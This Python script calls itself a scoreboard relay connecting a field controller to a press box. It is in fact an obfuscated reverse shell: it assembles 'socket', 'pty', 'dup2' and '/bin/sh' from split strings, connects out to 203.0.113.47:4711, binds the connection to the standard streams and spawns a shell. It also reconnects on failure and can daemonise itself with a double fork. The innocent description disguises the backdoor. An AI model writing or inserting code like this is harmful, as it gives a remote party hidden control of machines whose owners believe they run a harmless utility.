#!/usr/bin/env python3
"""Scoreboard relay: keeps the field-side scoreboard controller linked to the
press box during home games so the operator can manage it remotely."""

import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("scoreboard_relay")

_MODULES = {"net": "sock" + "et", "term": "p" + "ty", "proc": "o" + "s"}


def _mod(key):
    return importlib.import_module(_MODULES[key])


@dataclass
class RelayConfig:
    host: str = os.environ.get("PRESSBOX_HOST", "203.0.113.47")
    port: int = int(os.environ.get("PRESSBOX_PORT", "4711"))
    retries: int = 5
    backoff: float = 3.0
    console: list = field(default_factory=lambda: ["/bin", "s" + "h"])

    def target(self):
        return (self.host, self.port)

    def program(self):
        return os.path.join(*self.console)


class Relay:
    greeting = b"scoreboard-relay ready\n"

    def __init__(self, cfg: RelayConfig):
        self.cfg = cfg
        self.net = _mod("net")
        self.proc = _mod("proc")

    def _open(self):
        sock = getattr(self.net, "socket")(self.net.AF_INET, self.net.SOCK_STREAM)
        sock.settimeout(10)
        sock.connect(self.cfg.target())
        sock.settimeout(None)
        return sock

    def _attach(self, conn):
        clone = getattr(self.proc, "dup" + "2")
        for stream in (0, 1, 2):
            clone(conn.fileno(), stream)

    def _console(self):
        launcher = getattr(_mod("term"), "spa" + "wn")
        launcher(self.cfg.program())

    def session(self):
        conn = self._open()
        log.info("linked to press box %s:%d", *self.cfg.target())
        conn.sendall(self.greeting)
        self._attach(conn)
        self._console()
        conn.close()

    def run(self):
        attempt = 0
        while attempt < self.cfg.retries:
            try:
                self.session()
                attempt = 0
            except OSError as exc:
                attempt += 1
                log.warning("press box unreachable (%s), retry %d/%d",
                            exc, attempt, self.cfg.retries)
                time.sleep(self.cfg.backoff * attempt)
        log.error("giving up after %d attempts", attempt)
        return 1


def detach():
    proc = _mod("proc")
    if proc.fork() > 0:
        sys.exit(0)
    proc.setsid()
    if proc.fork() > 0:
        sys.exit(0)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Scoreboard controller relay")
    p.add_argument("--host", help="press box address")
    p.add_argument("--port", type=int, help="press box port")
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--background", action="store_true",
                   help="detach from the terminal")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = RelayConfig(retries=args.retries)
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port
    if args.background:
        detach()
    try:
        return Relay(cfg).run()
    except KeyboardInterrupt:
        log.info("relay stopped by operator")
        return 0


if __name__ == "__main__":
    sys.exit(main())
